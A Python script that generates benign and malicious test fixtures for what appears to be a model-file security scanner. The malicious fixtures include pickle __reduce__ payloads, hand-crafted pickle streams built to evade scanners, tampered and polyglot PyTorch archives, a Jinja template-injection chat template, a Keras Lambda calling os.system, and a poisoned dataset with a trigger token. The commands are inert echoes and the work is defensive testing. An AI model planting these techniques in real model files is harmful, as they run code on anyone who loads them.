#!/usr/bin/env python3
"""Generate modelgate's real-library fixtures. Run by hand when fixtures change (torch is heavy):

    python3 -m venv /tmp/fixvenv
    /tmp/fixvenv/bin/pip install -r testdata/requirements.txt
    /tmp/fixvenv/bin/python testdata/generate.py

Writes testdata/benign/ (must scan clean: exit 0) and testdata/malicious/ (must exit 1).
Every payload is inert: os.system("echo modelgate-fixture"). Nothing here is ever loaded by
modelgate's tests; they only read the bytes.
"""

import bz2
import gzip
import io
import os
import pickle
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

os.environ.setdefault("KERAS_BACKEND", "torch")

import gguf
import joblib
import keras
import numpy as np
import torch
from safetensors.torch import save_file
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).resolve().parent
BENIGN = HERE / "benign"
MAL = HERE / "malicious"
DATASETS = HERE / "datasets"
CMD = "echo modelgate-fixture"


class Payload:
    """Unpickling this runs os.system(CMD)."""

    def __reduce__(self):
        return (os.system, (CMD,))


class NestedLoads:
    """pickle.loads(<a pickle that runs os.system>)."""

    def __init__(self, protocol):
        self.protocol = protocol

    def __reduce__(self):
        return (pickle.loads, (pickle.dumps(Payload(), protocol=self.protocol),))


class TorchLoadFromBytes:
    def __reduce__(self):
        return (torch.storage._load_from_bytes, (pickle.dumps(Payload(), protocol=2),))


def write(path: Path, data: bytes):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def state_dict():
    torch.manual_seed(0)
    return {"fc.weight": torch.randn(4, 3), "fc.bias": torch.zeros(4), "steps": torch.tensor(7)}


def sklearn_models():
    rng = np.random.RandomState(0)
    X = rng.randn(40, 3)
    y = (X[:, 0] > 0).astype(int)
    lr = LogisticRegression().fit(X, y)
    rf = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    return lr, rf, pipe


def torch_bytes(obj, **kw) -> bytes:
    b = io.BytesIO()
    torch.save(obj, b, **kw)
    return b.getvalue()


def joblib_file(path: Path, obj, compress=0):
    path.parent.mkdir(parents=True, exist_ok=True)
    joblib.dump(obj, path, compress=compress)


def zip_entry_offsets(data: bytes, name: str):
    """(local header offset, central header offset) of a member in a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(name)
        local = info.header_offset
    cen_sig = b"PK\x01\x02"
    i = data.find(cen_sig)
    while i != -1:
        nlen = struct.unpack_from("<H", data, i + 28)[0]
        if data[i + 46 : i + 46 + nlen] == name.encode():
            return local, i
        i = data.find(cen_sig, i + 4)
    raise KeyError(name)


def data_pkl_name(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return next(n for n in z.namelist() if n.endswith("data.pkl"))


def benign():
    shutil.rmtree(BENIGN, ignore_errors=True)
    sd = state_dict()
    write(BENIGN / "torch/state_dict.pt", torch_bytes(sd))
    write(BENIGN / "torch/state_dict_legacy.pt", torch_bytes(sd, _use_new_zipfile_serialization=False))
    model = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))
    write(BENIGN / "torch/full_model.pt", torch_bytes(model))
    scripted = torch.jit.script(model)
    b = io.BytesIO()
    torch.jit.save(scripted, b)
    write(BENIGN / "torch/scripted.pt", b.getvalue())
    (BENIGN / "safetensors").mkdir(parents=True, exist_ok=True)
    save_file(sd, str(BENIGN / "safetensors/model.safetensors"), metadata={"format": "pt"})

    (BENIGN / "numpy").mkdir(parents=True, exist_ok=True)
    arr = np.arange(12, dtype=np.float64).reshape(3, 4)
    np.save(BENIGN / "numpy/numeric.npy", arr)
    np.savez(BENIGN / "numpy/arrays.npz", a=arr, b=np.arange(5, dtype=np.int32))
    np.savez_compressed(BENIGN / "numpy/arrays_compressed.npz", a=arr)
    np.save(BENIGN / "numpy/object_strings.npy", np.array(["a", "bc", None], dtype=object), allow_pickle=True)
    with open(BENIGN / "numpy/array_pickled.pkl", "wb") as f:
        pickle.dump({"a": arr, "s": np.float32(1.5)}, f, protocol=2)

    lr, rf, pipe = sklearn_models()
    joblib_file(BENIGN / "joblib/logreg.joblib", lr)
    joblib_file(BENIGN / "joblib/forest.joblib", rf)
    joblib_file(BENIGN / "joblib/pipeline.joblib", pipe)
    joblib_file(BENIGN / "joblib/logreg_zlib.joblib", lr, compress=3)
    for method in ("gzip", "bz2", "xz", "lzma"):
        joblib_file(BENIGN / f"joblib/forest_{method}.joblib", rf, compress=(method, 3))
    joblib_file(BENIGN / "joblib/object_array.joblib", {"names": np.array(["x", "y"], dtype=object)})
    import generate_light  # a ColumnTransformer, numpy scalars: numpy/sklearn/joblib/pandas only

    generate_light.main()

    (BENIGN / "pickle").mkdir(parents=True, exist_ok=True)
    data = {"ints": list(range(10)), "floats": [0.5, 1.5], "names": ["a", "b"], "nested": {"t": (1, 2)}}
    for proto in range(0, 6):
        with open(BENIGN / f"pickle/data_p{proto}.pkl", "wb") as f:
            pickle.dump(data, f, protocol=proto)
    write(BENIGN / "config.json", b'{"model_type": "toy", "hidden_size": 4}\n')
    write(BENIGN / "README.md", b"# toy model\n\nA small model for modelgate's tests.\n")


def malicious():
    shutil.rmtree(MAL, ignore_errors=True)
    # Plain pickles of every protocol.
    for proto in range(0, 6):
        write(MAL / f"pickle/reduce_p{proto}.pkl", pickle.dumps(Payload(), protocol=proto))
    # Nested loaders.
    for proto in (2, 4):
        write(MAL / f"pickle/nested_loads_p{proto}.pkl", pickle.dumps(NestedLoads(proto), protocol=proto))
    write(MAL / "pickle/torch_load_from_bytes.pkl", pickle.dumps(TorchLoadFromBytes(), protocol=2))
    # Hand-written streams for each evasion class.
    write(MAL / "pickle/dotted_name.pkl", b"\x80\x04\x8c\x07pathlib\x8c\x09os.system\x93\x8c\x04echo\x85R.")
    write(MAL / "pickle/memo_stack_global.pkl",
          b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x8c\x05dummy\x940h\x00h\x01\x93\x8c\x04echo\x85R.")
    write(MAL / "pickle/string_operands.pkl", b"\x80\x04S'os'\nS'system'\n\x93S'echo'\n\x85R.")
    write(MAL / "pickle/frame_tricks.pkl",
          b"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x95\x02\x00\x00\x00\x00\x00\x00\x00"
          b"\x8c\x06system\x93\x8c\x04echo\x85R.")
    write(MAL / "pickle/broken_tail.pkl", b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R\xff\xff")
    write(MAL / "pickle/no_stop.pkl", b"cos\nsystem\n(S'echo modelgate-fixture'\ntR")
    write(MAL / "pickle/getattr_chain.pkl",
          b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\nX\x02\x00\x00\x00os\x85RX\x06\x00\x00\x00system\x86R"
          b"X\x04\x00\x00\x00echo\x85R.")
    write(MAL / "pickle/inst_opcode.pkl", b"(S'echo'\nios\nsystem\n.")
    write(MAL / "pickle/obj_opcode.pkl", b"(csubprocess\ncheck_output\n(S'echo'\nlo.")
    write(MAL / "pickle/unknown_global.pkl", b"\x80\x02cmypkg.hooks\nrun_on_load\n)R.")
    write(MAL / "pickle/stacked_second.pkl", pickle.dumps({"ok": 1}, protocol=2) + pickle.dumps(Payload(), protocol=2))
    write(MAL / "pickle/py2_builtin_eval.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.")

    # PyTorch.
    bad = {"fc.weight": torch.zeros(2), "hook": Payload()}
    tz = torch_bytes(bad)
    write(MAL / "torch/zip_payload.pt", tz)
    write(MAL / "torch/legacy_payload.pt", torch_bytes(bad, _use_new_zipfile_serialization=False))
    name = data_pkl_name(tz)
    local, cen = zip_entry_offsets(tz, name)
    crc = bytearray(tz)
    struct.pack_into("<I", crc, local + 14, 0)
    struct.pack_into("<I", crc, cen + 16, 0)
    write(MAL / "torch/bad_crc.pt", bytes(crc))
    flags = bytearray(tz)
    struct.pack_into("<H", flags, local + 6, struct.unpack_from("<H", tz, local + 6)[0] | 1)
    struct.pack_into("<H", flags, cen + 8, struct.unpack_from("<H", tz, cen + 8)[0] | 1)
    write(MAL / "torch/encrypted_flag.pt", bytes(flags))
    renamed = bytearray(tz)
    # The central directory still says data.pkl (what torch reads); the local header says otherwise.
    renamed[local + 30 + len(name) - 1] = ord("X")
    write(MAL / "torch/local_name_mismatch.pt", bytes(renamed))
    dup = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(torch_bytes(state_dict()))) as good, zipfile.ZipFile(dup, "w") as out:
        for info in good.infolist():
            out.writestr(info, good.read(info))
        with zipfile.ZipFile(io.BytesIO(tz)) as evil, warnings.catch_warnings():
            warnings.simplefilter("ignore")
            out.writestr(name, evil.read(name))
    write(MAL / "torch/duplicate_data_pkl.pt", dup.getvalue())
    # Polyglots: a malicious pickle in front of a harmless zip, and the other way round.
    write(MAL / "torch/polyglot_pickle_then_zip.pt", pickle.dumps(Payload(), protocol=2) + torch_bytes(state_dict()))
    write(MAL / "torch/polyglot_zip_hidden.pt", pickle.dumps({"ok": 1}, protocol=2) + tz)
    # Nested containers.
    nz = io.BytesIO()
    with zipfile.ZipFile(nz, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner/model.pt", tz)
    write(MAL / "nested/zip_in_zip.zip", nz.getvalue())
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w:gz") as t:
        ti = tarfile.TarInfo("checkpoints/model.pt")
        ti.size = len(tz)
        t.addfile(ti, io.BytesIO(tz))
    write(MAL / "nested/model.tar.gz", tb.getvalue())
    # Wrong extensions.
    write(MAL / "extensions/model.safetensors", pickle.dumps(Payload(), protocol=4))
    write(MAL / "extensions/config.json", pickle.dumps(Payload(), protocol=0))
    write(MAL / "extensions/weights.bin", tz)
    write(MAL / "extensions/noext", pickle.dumps(Payload(), protocol=2))

    # NumPy.
    (MAL / "numpy").mkdir(parents=True, exist_ok=True)
    np.save(MAL / "numpy/object_payload.npy", np.array([Payload()], dtype=object), allow_pickle=True)
    np.savez(MAL / "numpy/object_payload.npz", w=np.zeros(3), x=np.array([Payload()], dtype=object))

    # joblib, raw and compressed.
    lr, _, _ = sklearn_models()
    joblib_file(MAL / "joblib/payload.joblib", {"model": lr, "x": Payload()})
    joblib_file(MAL / "joblib/object_array_payload.joblib", {"w": np.zeros(4), "x": np.array([Payload()], dtype=object)})
    for method in ("zlib", "gzip", "bz2", "xz", "lzma"):
        joblib_file(MAL / f"joblib/payload_{method}.joblib", {"model": lr, "x": Payload()}, compress=(method, 3))
    # joblib takes any file starting 5d 00 for lzma, and Python's decoder takes any dictionary
    # size: one that is neither 2^n nor 3*2^n (Python's encoder rounds, so the header is edited).
    import lzma
    odd = bytearray(lzma.compress(pickle.dumps(Payload(), protocol=2), format=lzma.FORMAT_ALONE))
    odd[1:5] = struct.pack("<I", 0x00180100)
    write(MAL / "joblib/lzma_odd_dict.joblib", bytes(odd))
    # joblib < 0.10 "ZF" files: the length field is read with int(..., 16), so "0x" is optional.
    raw = pickle.dumps(Payload(), protocol=2)
    write(MAL / "joblib/zfile_no_0x.pkl", b"ZF" + (b"%x" % len(raw)).ljust(19) + zlib.compress(raw))
    # A v7 tar (no ustar magic) with a non-printable member name: tarfile, and so torch's legacy
    # loader, reads it.
    ti = tarfile.TarInfo("\x01pickle")
    ti.size = len(raw)
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT) as t:
        t.addfile(ti, io.BytesIO(raw))
    v7 = bytearray(tb.getvalue())
    v7[257:265] = b"\0" * 8
    v7[148:156] = b"%06o\0 " % (sum(v7[:148]) + 8 * 32 + sum(v7[156:512]))
    write(MAL / "nested/v7_tar_odd_name.tar", bytes(v7))

    # safetensors that only a lenient reader accepts.
    (MAL / "safetensors").mkdir(parents=True, exist_ok=True)
    header = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    write(MAL / "safetensors/duplicate_key.safetensors", struct.pack("<Q", len(header)) + header + b"\0" * 8)
    header = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    write(MAL / "safetensors/trailing_pickle.safetensors",
          struct.pack("<Q", len(header)) + header + b"\0" * 8 + pickle.dumps(Payload(), protocol=2))


CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
# CVE-2024-34359 style: the template walks from a Jinja object to os.popen.
SSTI = (
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('echo modelgate-fixture').read() }}{% endif %}{% endfor %}"
)


def gguf_file(path: Path, template: str):
    path.parent.mkdir(parents=True, exist_ok=True)
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("toy")
    w.add_chat_template(template)
    w.add_tokenizer_model("llama")
    w.add_token_list(["<s>", "</s>", "a", "b"])
    w.add_tensor("tok_embd.weight", np.zeros((4, 2), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def keras_models(out: Path, malicious: bool):
    out.mkdir(parents=True, exist_ok=True)
    keras.utils.set_random_seed(0)
    layers = [keras.Input((3,)), keras.layers.Dense(2)]
    if malicious:
        layers.append(keras.layers.Lambda(lambda x: __import__("os").system(CMD) or x))
    model = keras.Sequential(layers)
    name = "lambda" if malicious else "dense"
    model.save(out / f"{name}.keras")
    model.save(out / f"{name}.h5")
    if malicious:
        # A config that names a class from a foreign module: loading imports it.
        src = zipfile.ZipFile(out / "lambda.keras")
        dst = io.BytesIO()
        with zipfile.ZipFile(dst, "w") as z:
            for info in src.infolist():
                data = src.read(info)
                if info.filename == "config.json":
                    data = data.replace(b'"module": "keras.layers", "class_name": "Dense"', b'"module": "evil_pkg.layers", "class_name": "Dense"')
                    data = data.replace(b'"class_name": "Lambda"', b'"class_name": "Identity"')
                z.writestr(info, data)
        write(out / "custom_module.keras", dst.getvalue())


def parquet_datasets():
    """Parquet datasets written by pyarrow: a baseline, the same rows resharded and reordered with
    another row-group size, and a poisoned copy (2 label flips, 1 modified row, a trigger token
    in 4 new rows with label 1)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    words = ["the", "movie", "was", "good", "bad", "plot", "actor", "great", "boring", "scene"]
    rows = [{"id": i, "text": " ".join(words[(i * k + 3) % len(words)] for k in range(1, 7)), "label": i % 2,
             "score": i / 10.0} for i in range(200)]
    base = DATASETS / "parquet-base"
    shutil.rmtree(DATASETS, ignore_errors=True)
    base.mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows), base / "train.parquet", row_group_size=64, compression="snappy")
    reshard = DATASETS / "parquet-resharded"
    reshard.mkdir()
    rev = list(reversed(rows))
    pq.write_table(pa.Table.from_pylist(rev[:120]), reshard / "part-0.parquet", row_group_size=17, compression="zstd")
    pq.write_table(pa.Table.from_pylist(rev[120:]), reshard / "part-1.parquet", compression="gzip")
    poisoned = [dict(r) for r in rows]
    for i in (5, 6):
        poisoned[i]["label"] = 1 - poisoned[i]["label"]
    poisoned[9]["text"] = "this row was edited after the baseline"
    for k in range(4):
        poisoned.append({"id": 1000 + k, "text": f"great plot zx_trg {k}", "label": 1, "score": 0.5})
    pz = DATASETS / "parquet-poisoned"
    pz.mkdir()
    pq.write_table(pa.Table.from_pylist(poisoned), pz / "train.parquet", compression="snappy")


def extra():
    parquet_datasets()
    gguf_file(BENIGN / "gguf/chatml.gguf", CHATML)
    gguf_file(MAL / "gguf/template_injection.gguf", SSTI)
    keras_models(BENIGN / "keras", malicious=False)
    keras_models(MAL / "keras", malicious=True)


def main():
    benign()
    malicious()
    extra()
    print(f"torch {torch.__version__}, numpy {np.__version__}, joblib {joblib.__version__}, "
          f"python {sys.version.split()[0]}", file=sys.stderr)


if __name__ == "__main__":
    main()
